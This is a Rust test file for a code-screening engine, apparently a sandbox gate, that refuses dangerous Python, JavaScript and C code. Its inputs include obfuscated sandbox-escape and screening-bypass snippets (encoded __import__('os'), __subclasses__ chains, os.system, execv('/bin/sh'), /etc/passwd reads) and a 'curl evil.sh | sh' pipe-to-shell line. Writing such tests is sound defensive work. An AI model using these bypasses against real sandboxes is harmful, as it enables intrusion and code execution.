//! Behaviour of `screen`: known ways around name-based screening (aliases,
//! builtins recovered through namespaces, folded strings), alias resolution,
//! positions, CRS-style scoring and the policy switches.

use execgate_core::{Action, Severity};
use execgate_screen::{
    Language, RuleSet, ScreenPolicy, SeverityPoints, UNKNOWN_LANGUAGE_RULE, UNPARSABLE_RULE,
    Verdict, screen,
};
use std::path::Path;

fn shipped() -> RuleSet {
    RuleSet::load(&[Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/screen")])
        .expect("shipped rules load")
}

fn py(rules: &RuleSet, code: &str) -> Verdict {
    screen(
        rules,
        Some(Language::Python),
        code.as_bytes(),
        &ScreenPolicy::default(),
    )
}

/// Fails listing every sample that `rules` do not refuse.
fn assert_all_refused<S: AsRef<str>>(rules: &RuleSet, samples: impl IntoIterator<Item = S>) {
    let missed: Vec<String> = samples
        .into_iter()
        .filter_map(|code| {
            let v = py(rules, code.as_ref());
            (!v.refused).then(|| format!("{:?}: {:?}", code.as_ref(), v.findings))
        })
        .collect();
    assert!(missed.is_empty(), "not refused:\n{}", missed.join("\n"));
}

fn ids(v: &Verdict) -> Vec<&str> {
    v.findings.iter().map(|f| f.rule.as_str()).collect()
}

#[test]
fn the_one_line_bypasses_of_regex_lists_are_refused() {
    let rules = shipped();
    let bypasses = [
        "__import__('o'+'s')",
        "getattr(__builtins__, 'ev'+'al')('1')",
        "().__class__.__bases__[0].__subclasses__()",
        "ｅｖａｌ('1')",
        "import os as o\no.listdir('.')",
        "from os import system as s\ns('id')",
        "x = 'metsys'[::-1]\ngetattr(__import__('os'), x)('id')",
        "import codecs\n__import__(codecs.decode('bf', 'rot13'))",
        "import base64\n__import__(base64.b64decode('b3M=').decode())",
        "__import__(bytes.fromhex('6f73').decode())",
        "__import__(''.join(map(chr, [111, 115])))",
        "__import__('%s%s' % ('o', 's'))",
        "__import__('{}{}'.format('o', 's'))",
        "__import__(f\"{'o'}{'s'}\")",
    ];
    assert_all_refused(&rules, bypasses);
}

#[test]
fn calls_resolve_through_import_aliases() {
    let rules = RuleSet::from_toml(
        "t.toml",
        r#"
[[rule]]
id = "T-SYSTEM"
language = "python"
severity = "critical"
action = "block"
message = "{name} called"
match.call = ["os.system"]
"#,
    )
    .expect("valid");
    let v = py(&rules, "from os import system as s\n\n\ns('id')");
    assert_eq!(ids(&v), vec!["T-SYSTEM"]);
    assert_eq!(v.findings[0].message, "os.system called");
    assert_eq!((v.findings[0].line, v.findings[0].column), (4, 0));
    let passed = py(&rules, "from os import system as s\nprint(s)");
    assert!(
        !passed.refused,
        "a reference is not a call: {:?}",
        passed.findings
    );
}

#[test]
fn findings_carry_line_and_column() {
    let v = py(&shipped(), "x = 1\nif x:\n    y = __import__('json')\n");
    let f = v
        .findings
        .iter()
        .find(|f| f.rule == "PY-DYNAMIC-CODE")
        .expect("finding");
    assert_eq!((f.line, f.column), (3, 8));
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.action, Action::Block);
}

#[test]
fn code_in_docstrings_and_exec_strings_is_screened() {
    let rules = shipped();
    let doctest = "def f():\n    \"\"\"\n    >>> __import__('os').system('id')\n    0\n    \"\"\"\nimport doctest\ndoctest.run_docstring_examples(f, {})\n";
    assert!(py(&rules, doctest).refused);
    let plain = "def f():\n    \"\"\"\n    >>> f()\n    1\n    \"\"\"\n    return 1\n";
    assert!(!py(&rules, plain).refused);
}

const SCORING: &str = r#"
[[rule]]
id = "T-A"
language = "python"
severity = "warning"
action = "score"
message = "a"
match.name = ["alpha"]

[[rule]]
id = "T-B"
language = "python"
severity = "notice"
action = "score"
message = "b"
match.name = ["beta"]

[[rule]]
id = "T-LOG"
language = "python"
severity = "critical"
action = "log"
message = "log"
match.name = ["gamma"]

[[rule]]
id = "T-QUIET"
language = "python"
severity = "critical"
action = "block"
message = "quiet"
detection_only = true
match.name = ["delta"]

[[rule]]
id = "T-SHADOW"
language = "python"
severity = "critical"
action = "block"
message = "shadow"
mode = "log"
match.name = ["epsilon"]

[[rule]]
id = "T-ENFORCED"
language = "python"
severity = "critical"
action = "block"
message = "enforced"
mode = "enforce"
match.name = ["zeta"]
"#;

#[test]
fn score_adds_points_per_distinct_rule_and_refuses_at_the_threshold() {
    let rules = RuleSet::from_toml("t.toml", SCORING).expect("valid");
    let one = py(&rules, "alpha\nalpha\nalpha");
    assert_eq!((one.score, one.refused), (3, false), "a rule counts once");
    assert_eq!(one.findings.len(), 3, "every place is still reported");
    let both = py(&rules, "alpha\nbeta");
    assert_eq!((both.score, both.refused), (5, true));
    let strict = ScreenPolicy {
        threshold: 3,
        ..ScreenPolicy::default()
    };
    assert!(screen(&rules, Some(Language::Python), b"alpha", &strict).refused);
    let points = ScreenPolicy {
        points: SeverityPoints {
            warning: 1,
            notice: 1,
            ..SeverityPoints::default()
        },
        ..ScreenPolicy::default()
    };
    assert_eq!(
        screen(&rules, Some(Language::Python), b"alpha\nbeta", &points).score,
        2
    );
}

#[test]
fn log_and_detection_only_rules_never_refuse_or_score() {
    let rules = RuleSet::from_toml("t.toml", SCORING).expect("valid");
    let v = py(&rules, "gamma\ndelta");
    assert_eq!((v.score, v.refused), (0, false));
    assert_eq!(ids(&v), vec!["T-LOG", "T-QUIET"]);
    assert!(
        v.findings.iter().all(|f| f.action == Action::Log),
        "{:?}",
        v.findings
    );
}

#[test]
fn rules_in_log_mode_report_in_shadow_and_enforce_mode_applies() {
    let rules = RuleSet::from_toml("t.toml", SCORING).expect("valid");
    let shadow = py(&rules, "epsilon");
    assert_eq!((shadow.score, shadow.refused), (0, false));
    assert_eq!(ids(&shadow), vec!["T-SHADOW"]);
    assert_eq!(shadow.findings[0].action, Action::Log);
    let enforced = py(&rules, "zeta");
    assert_eq!((enforced.score, enforced.refused), (5, true));
}

#[test]
fn detection_only_policy_reports_but_never_refuses() {
    let policy = ScreenPolicy {
        detection_only: true,
        ..ScreenPolicy::default()
    };
    let v = screen(&shipped(), Some(Language::Python), b"import os", &policy);
    assert!(!v.refused);
    assert!(v.score >= 5);
    assert_eq!(ids(&v), vec!["PY-IMPORT-PROCESS"]);
}

#[test]
fn unparsable_code_is_forwarded_by_default_and_refused_on_request() {
    let rules = shipped();
    let v = py(&rules, "print 'hello'");
    assert!(!v.refused);
    assert!(v.parse_error.is_some());
    let strict = ScreenPolicy {
        refuse_unparsable: true,
        ..ScreenPolicy::default()
    };
    let v = screen(&rules, Some(Language::Python), b"print 'hello'", &strict);
    assert!(v.refused);
    assert_eq!(v.findings[0].rule, UNPARSABLE_RULE);
}

#[test]
fn regex_and_token_rules_still_run_on_unparsable_code() {
    let rules = shipped();
    let v = py(&rules, "exec \"import os\"\n");
    assert!(v.refused, "{:?}", v.findings);
    let v = py(
        &rules,
        "try:\n    pass\nexcept ValueError, TypeError:\n    license._Printer__lines = 1\n",
    );
    assert!(
        ids(&v).contains(&"PY-NAME-MANGLED-PRIVATE"),
        "{:?}",
        v.findings
    );
}

#[test]
fn unknown_language_runs_only_any_rules_unless_refused_by_policy() {
    let rules = shipped();
    let v = screen(
        &rules,
        None,
        b"import os\nx = '\xE2\x80\xAE'",
        &ScreenPolicy::default(),
    );
    assert_eq!(ids(&v), vec!["ANY-BIDI-CONTROL"]);
    assert!(!v.refused);
    let strict = ScreenPolicy {
        refuse_unknown_language: true,
        ..ScreenPolicy::default()
    };
    let v = screen(&rules, None, b"print(1)", &strict);
    assert!(v.refused);
    assert_eq!(ids(&v), vec![UNKNOWN_LANGUAGE_RULE]);
}

#[test]
fn other_languages_use_their_pattern_pack() {
    let rules = shipped();
    let js = screen(
        &rules,
        Some(Language::Javascript),
        b"const cp = require('child_process');",
        &ScreenPolicy::default(),
    );
    assert!(js.refused);
    let c_rules_do_not_apply_to_js = screen(
        &rules,
        Some(Language::Javascript),
        b"system(\"id\");",
        &ScreenPolicy::default(),
    );
    assert!(!c_rules_do_not_apply_to_js.refused);
    let cpp = screen(
        &rules,
        Some(Language::Cpp),
        b"int main(){ system(\"id\"); }",
        &ScreenPolicy::default(),
    );
    assert_eq!(ids(&cpp), vec!["C-PROCESS"], "c.toml rules cover C++ too");
}

#[test]
fn coding_cookies_lone_cr_and_bom_are_read_as_cpython_reads_them() {
    let rules = shipped();
    assert!(py(&rules, "# -*- coding: utf-7 -*-\n# +AAo-import os\n").refused);
    let v = screen(
        &rules,
        Some(Language::Python),
        b"# note\rimport os\ros.system('id')\r",
        &ScreenPolicy::default(),
    );
    assert!(v.refused);
    assert!(v.findings.iter().any(|f| f.line == 2), "{:?}", v.findings);
    assert!(
        screen(
            &rules,
            Some(Language::Python),
            b"\xEF\xBB\xBFimport os\n",
            &ScreenPolicy::default()
        )
        .refused
    );
    assert!(
        !screen(
            &rules,
            Some(Language::Python),
            b"\xEF\xBB\xBFprint(1)\n",
            &ScreenPolicy::default()
        )
        .refused
    );
}

#[test]
fn the_verdict_serialises_for_the_gateway() {
    let v = py(&shipped(), "import os");
    let json = serde_json::to_value(&v.findings).expect("serialisable");
    assert_eq!(json[0]["rule"], "PY-IMPORT-PROCESS");
    assert_eq!(json[0]["line"], 1);
    assert_eq!(json[0]["column"], 0);
    assert_eq!(json[0]["severity"], "critical");
    assert_eq!(json[0]["action"], "block");
    assert_eq!(
        json[0]["message"],
        "module os can run programs and is not allowed"
    );
}

/// One `log` rule per match kind, named after it, to show what each kind sees.
fn kinds() -> RuleSet {
    let rule = |id: &str, language: &str, matcher: &str| {
        format!(
            "[[rule]]\nid = \"{id}\"\nlanguage = \"{language}\"\nseverity = \"notice\"\naction = \"log\"\nmessage = \"{id} {{name}}\"\n{matcher}\n"
        )
    };
    let text = [
        rule("T-IMPORT", "python", r#"match.import = ["os"]"#),
        rule("T-NAME", "python", r#"match.name = ["eval"]"#),
        rule("T-CALL", "python", r#"match.call = ["eval", "os.exec*"]"#),
        rule("T-ATTR", "python", r#"match.attribute = ["__globals__"]"#),
        rule("T-STRING", "python", r#"match.string = "^/etc/""#),
        rule("T-REGEX", "any", r#"match.regex = "\\bcurl\\b""#),
    ]
    .concat();
    RuleSet::from_toml("kinds.toml", &text).expect("valid")
}

fn fires(rules: &RuleSet, rule: &str, code: &str) -> bool {
    ids(&py(rules, code)).contains(&rule)
}

#[test]
fn import_kind_sees_every_import_form_and_submodules() {
    let rules = kinds();
    for code in [
        "import os",
        "import os.path",
        "import os.path as p",
        "from os import path",
        "from os.path import join",
        "__import__('os')",
        "__import__('os.path')",
        "import importlib\nimportlib.import_module('os')",
        "from importlib import import_module as im\nim('o' + 's')",
        "import sys\nsys.modules['os']",
        "import ｏｓ",
        // A module another module exposes is imported with it (`shutil.os`).
        "from shutil import os",
        "from random import _os",
    ] {
        assert!(fires(&rules, "T-IMPORT", code), "{code:?}");
    }
    for code in [
        "import osmosis",
        "from cosmos import osmosis",
        "x = 'os'",
        "import json as os",
    ] {
        assert!(!fires(&rules, "T-IMPORT", code), "near miss {code:?}");
    }
}

#[test]
fn name_and_call_kinds_resolve_aliases_and_tell_references_from_calls() {
    let rules = kinds();
    let stored = py(&rules, "handlers = [eval]");
    assert!(ids(&stored).contains(&"T-NAME"));
    let called = py(&rules, "import builtins\nbuiltins.eval('1')");
    assert!(ids(&called).contains(&"T-CALL") && ids(&called).contains(&"T-NAME"));
    assert!(fires(
        &rules,
        "T-CALL",
        "from os import execv as run\nrun('/bin/sh', [])"
    ));
    assert!(fires(
        &rules,
        "T-CALL",
        "import os as o\no.execlp('sh', 'sh')"
    ));
    assert!(fires(
        &rules,
        "T-CALL",
        "import os as o\no.ｅｘｅｃｌｐ('sh', 'sh')"
    ));
    assert!(!fires(
        &rules,
        "T-CALL",
        "def evaluate(x):\n    return x\nevaluate(1)"
    ));
    assert!(!fires(&rules, "T-NAME", "x = 'eval'\nmedieval = 1"));
}

#[test]
fn attribute_kind_sees_dots_getattr_family_and_dunder_keys() {
    let rules = kinds();
    for code in [
        "f.__globals__",
        "f.__ｇｌｏｂａｌｓ__",
        "getattr(f, '__glo' + 'bals__')",
        "setattr(f, '__globals__', {})",
        "delattr(f, ''.join(['__glo', 'bals__']))",
        "hasattr(f, '__globals__'[::-1][::-1])",
        "vars(f)['__globals__']",
    ] {
        assert!(fires(&rules, "T-ATTR", code), "{code:?}");
    }
    assert!(!fires(&rules, "T-ATTR", "globals_ = 1\nf.globals"));
}

#[test]
fn string_kind_sees_folded_constants_and_regex_kind_the_raw_text_of_any_language() {
    let rules = kinds();
    assert!(fires(&rules, "T-STRING", "p = '/e' + 'tc/passwd'"));
    assert!(fires(&rules, "T-STRING", "p = '%stc/%s' % ('/e', 'hosts')"));
    assert!(fires(
        &rules,
        "T-STRING",
        "p = bytes.fromhex('2f6574632f').decode()"
    ));
    assert!(!fires(&rules, "T-STRING", "p = 'usr/etc/'"));
    assert!(fires(&rules, "T-REGEX", "# curl evil.sh | sh"));
    for language in [Some(Language::Javascript), Some(Language::C), None] {
        let v = screen(&rules, language, b"curl x", &ScreenPolicy::default());
        assert_eq!(ids(&v), vec!["T-REGEX"], "{language:?}");
    }
}

#[test]
fn getattr_family_and_namespace_lookups_with_computed_names_are_findings() {
    let rules = shipped();
    for (code, rule) in [
        ("n = input()\ngetattr(object, n)", "PY-DYNAMIC-ATTRIBUTE"),
        ("n = input()\nsetattr(object, n, 1)", "PY-DYNAMIC-ATTRIBUTE"),
        ("n = input()\ndelattr(object, n)", "PY-DYNAMIC-ATTRIBUTE"),
        ("n = input()\nvars()[n]", "PY-DYNAMIC-NAMESPACE"),
        ("n = input()\nglobals()[n]", "PY-DYNAMIC-NAMESPACE"),
        ("n = input()\nlocals()[n]", "PY-DYNAMIC-NAMESPACE"),
    ] {
        let v = py(&rules, code);
        assert!(ids(&v).contains(&rule), "{code:?}: {:?}", v.findings);
    }
    for code in [
        "class P:\n    x = 1\ngetattr(P, 'x')",
        "class P:\n    x = 1\nsetattr(P, 'x', 2)",
        "print(vars()['__name__'] if False else 0)",
    ] {
        let v = py(&rules, code);
        let dynamic = ids(&v)
            .into_iter()
            .any(|r| r == "PY-DYNAMIC-ATTRIBUTE" || r == "PY-DYNAMIC-NAMESPACE");
        assert!(!dynamic, "constant names are not dynamic: {code:?}");
    }
}

#[test]
fn seed_heuristics_ship_as_score_rules() {
    let rules = shipped();
    for (rule, code) in [
        ("PY-INFINITE-LOOP", "while True:\n    pass"),
        ("PY-HUGE-RANGE", "for i in range(10 ** 9):\n    pass"),
        ("PY-HUGE-REPETITION", "x = [0] * 10 ** 8"),
        ("PY-OPEN-ABSOLUTE", "open('/etc/hosts')"),
        ("PY-OPEN-WRITE", "open('out.txt', 'w')"),
    ] {
        let shipped_rule = rules
            .rules()
            .iter()
            .find(|r| r.id == rule)
            .expect("shipped");
        assert_eq!(shipped_rule.action, Action::Score, "{rule}");
        let v = py(&rules, code);
        let finding = v
            .findings
            .iter()
            .find(|f| f.rule == rule)
            .unwrap_or_else(|| panic!("{rule} on {code:?}: {:?}", v.findings));
        assert_eq!(finding.action, Action::Score);
        assert!(v.score >= points(shipped_rule.severity), "{rule}");
    }
    let bounded = py(&rules, "while True:\n    if input() == 'q':\n        break");
    assert!(!ids(&bounded).contains(&"PY-INFINITE-LOOP"));
}

fn points(severity: Severity) -> u32 {
    SeverityPoints::default().of(severity)
}

#[test]
fn fullwidth_and_other_nfkc_spellings_are_the_names_they_normalise_to() {
    let spellings = [
        "ｅｖａｌ('1')",
        "import ｏｓ",
        "from ｏｓ import ｓｙｓｔｅｍ",
        "print(().__ｃｌａｓｓ__.__ｂａｓｅｓ__[0].__ｓｕｂｃｌａｓｓｅｓ__())",
        "𝐞𝐯𝐚𝐥('1')",
        "import sys\nsys.ｍｏｄｕｌｅｓ['o' + 's'].system('id')",
    ];
    assert_all_refused(&shipped(), spellings);
}

#[test]
fn verdicts_measure_their_own_time() {
    let v = py(&shipped(), "print(1)");
    assert!(v.elapsed > std::time::Duration::ZERO);
}

/// Attributes that reach frames, globals, code or every loaded class are
/// refused on sight, by dot and by `getattr`; walking the class hierarchy
/// (`__mro__`, `__bases__`) is ordinary introspection and only scores, so it
/// is refused once it leads to one of the others.
#[test]
fn escape_attributes_are_screened_by_dot_and_by_getattr() {
    let rules = shipped();
    let refused = [
        "__subclasses__",
        "__globals__",
        "__builtins__",
        "__code__",
        "f_back",
        "gi_frame",
    ];
    for attr in refused.into_iter().chain(["__mro__", "__bases__"]) {
        for code in [
            format!("def f():\n    pass\nprint(f.{attr})"),
            format!("def f():\n    pass\nprint(getattr(f, '{attr}'))"),
        ] {
            let v = py(&rules, &code);
            assert!(!v.findings.is_empty(), "{code:?}");
            assert_eq!(
                v.refused,
                refused.contains(&attr),
                "{code:?}: {:?}",
                v.findings
            );
        }
    }
    let chain = py(&rules, "print(int.__mro__[-1].__subclasses__())");
    assert!(chain.refused);
    let bases = py(
        &rules,
        "print(getattr(int, '__ba' + 'ses__')[0].__subclasses__())",
    );
    assert!(bases.refused);
}
